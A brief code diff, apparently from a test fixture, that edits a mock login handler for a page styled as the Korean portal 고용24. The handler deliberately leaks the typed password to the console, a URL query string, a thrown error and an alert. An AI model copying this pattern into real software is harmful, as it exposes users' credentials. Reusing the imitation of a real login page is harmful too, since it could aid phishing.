@@ -23,7 +23,7 @@ document.getElementById('go').onclick = function () {
   forms.forEach(function (form) { console.error('typed ' + form); });
   fetch('/echo?pw=' + encodeURIComponent(value), { method: 'POST', body: forms.join('&') });
   setTimeout(function () { throw new Error('cannot log in as ' + user + ' with ' + value); });
-  alert('잘못된 비밀번호: ' + value);
+  alert('데이터베이스 오류: ' + value);
 };</script>`;
 
 const MAIN = `<!DOCTYPE html><title>고용24</title><header>고용24 <a href="/login">로그인</a></header>
